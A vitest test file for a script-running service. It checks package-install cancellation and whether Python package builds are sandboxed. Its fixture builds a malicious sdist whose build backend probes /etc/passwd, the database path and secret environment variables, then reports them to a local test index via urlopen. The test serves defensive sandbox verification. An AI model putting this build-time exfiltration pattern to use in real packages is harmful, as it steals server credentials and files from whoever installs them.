import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { delimiter, dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { cancelRun } from '@/lib/runs/cancel-run'
import { getJob } from '@/lib/runs/get-run'
import { findSandbox } from '@/lib/runs/process/sandbox'
import { saveScriptSettings } from '@/lib/script-settings/save-script-settings'
import { testContext } from '@/lib/testing/context'
import { listen } from '@/lib/testing/listen'
import { performNext, queueText, type RunLab, startRunLab } from '@/lib/testing/run-lab'
import { testServer } from '@/lib/testing/servers'

vi.setConfig({ testTimeout: 60_000 })

const { server: python, reason } = await testServer('python')
const sandboxed = (await findSandbox()).program !== null

const hasUv = (process.env.PATH ?? '').split(delimiter).some((path) => existsSync(join(path, 'uv')))

// What the second one needs is built by a program of its own, which tells the index what it finds.
const PACKAGES = `import io, sys, tarfile, zipfile
folder, address, database = sys.argv[1:]
def wheel(name, *needs):
    with zipfile.ZipFile(f"{folder}/{name}-1.0-py3-none-any.whl", "w") as file:
        info = f"{name}-1.0.dist-info"
        file.writestr(f"{name}.py", "here = 1\\n")
        file.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n" + "".join(f"Requires-Dist: {each}\\n" for each in needs))
        file.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        file.writestr(f"{info}/RECORD", "")
wheel("slow")
wheel("leads", f"built @ {address}/built-1.0.tar.gz")
backend = f"""import os
from urllib.request import urlopen
found = [path for path in ({database!r}, "/etc/passwd", "/etc/hostname") if os.path.exists(path)] + [name for name in os.environ if name in ("MASTER_KEY", "DATA_DIR", "AUTH_SECRET")]
urlopen("{address}/told/" + ",".join(found).replace("/", "_"))
"""
with tarfile.open(f"{folder}/built-1.0.tar.gz", "w:gz") as file:
    for name, text in {"pyproject.toml": '[build-system]\\nrequires = []\\nbuild-backend = "backend"\\nbackend-path = ["."]\\n', "backend.py": backend, "PKG-INFO": "Metadata-Version: 2.1\\nName: built\\nVersion: 1.0\\n"}.items():
        entry = tarfile.TarInfo(f"built-1.0/{name}")
        entry.size = len(text)
        file.addfile(entry, io.BytesIO(text.encode()))
`

describe.skipIf(!python)(`installing packages${reason ? ` (left out: ${reason})` : ''}`, () => {
  const folder = mkdtempSync(join(tmpdir(), 'granary-index-'))
  /** Those who ask for the list of `slow` wait as long as it is slow. */
  const asking = new Set<Socket>()
  let isSlow = true
  const told: string[] = []
  const home = process.env.HOME
  let lab: RunLab
  let index: Awaited<ReturnType<typeof listen>>

  beforeAll(async () => {
    index = await listen(
      createServer(({ url = '', socket }, response) => {
        const [, kind = '', name = ''] = url.split('/')
        if (kind === 'told') told.push(name)
        if (name === 'slow' && isSlow) return void asking.add(socket.once('close', () => asking.delete(socket)))
        if (kind === 'simple') {
          response.setHeader('content-type', 'text/html')
          return void response.end(`<a href="/${name}-1.0-py3-none-any.whl">${name}-1.0-py3-none-any.whl</a>`)
        }
        response.end(kind === 'told' ? '' : readFileSync(join(folder, kind)))
      }),
    )
    lab = await startRunLab({
      ...{ RUN_PYTHON: python?.python ?? '', RUN_PYTHON_UNCONFINED: sandboxed ? '0' : '1' },
      ...{ HOME: folder, XDG_CONFIG_HOME: '', PIP_INDEX_URL: '', PIP_FIND_LINKS: '', UV_DEFAULT_INDEX: '' },
    })
    // As whoever runs a server sets up an index of their own.
    const address = `http://127.0.0.1:${index.port}/simple/`
    for (const [name, text] of [
      ['pip/pip.conf', `[global]\nindex-url = ${address}\n`],
      ['uv/uv.toml', `[[index]]\nurl = "${address}"\ndefault = true\n`],
    ] as const) {
      mkdirSync(join(folder, '.config', dirname(name)), { recursive: true })
      writeFileSync(join(folder, '.config', name), text)
    }
    const database = `${process.env.DATA_DIR}/granary.db`
    execFileSync(python?.python ?? '', ['-c', PACKAGES, folder, `http://127.0.0.1:${index.port}`, database])
    const admin = await testContext({ username: 'boss', role: 'admin' })
    await saveScriptSettings(admin, { packages: ['slow', 'leads'], hosts: [] })
  })
  afterAll(async () => {
    await lab.close()
    process.env.HOME = home
    await index.close()
    rmSync(folder, { recursive: true, force: true })
  })

  const asks = (name: string) =>
    `# /// script\n# dependencies = ["${name}"]\n# ///\nimport ${name}\ndef main(): return ${name}.here`

  it('goes on while one run waits for it, ends with the last, and is begun anew by the next', async () => {
    const content = asks('slow')
    const ids = [await queueText(lab.owner, content, 'python3'), await queueText(lab.owner, content, 'python3')]
    const [first = '', second = ''] = ids
    const ends = [performNext({ owner: 'one' }), performNext({ owner: 'two' })]
    await expect.poll(() => asking.size, { timeout: 30_000 }).toBe(1)
    await cancelRun(lab.owner, { id: first })
    expect(await Promise.race(ends)).toBe(first)
    expect(await getJob(lab.owner, { id: first })).toMatchObject({ status: 'canceled' })
    expect(asking.size).toBe(1)
    await cancelRun(lab.owner, { id: second })
    await Promise.all(ends)
    await expect.poll(() => asking.size, { timeout: 5000 }).toBe(0)
    isSlow = false
    const { result, logs } = await lab.run(content, { language: 'python3' })
    expect(result, logs).toBe(1)
  })

  it.skipIf(!sandboxed)('lets what an index wants to be built see nothing of the server', async () => {
    const { success, logs } = await lab.run(asks('leads'), { language: 'python3' })
    expect(success, logs).toBe(false) // the backend builds nothing
    // uv builds nothing at all, pip does.
    expect(new Set(told)).toEqual(new Set(hasUv ? [] : ['']))
  })
})
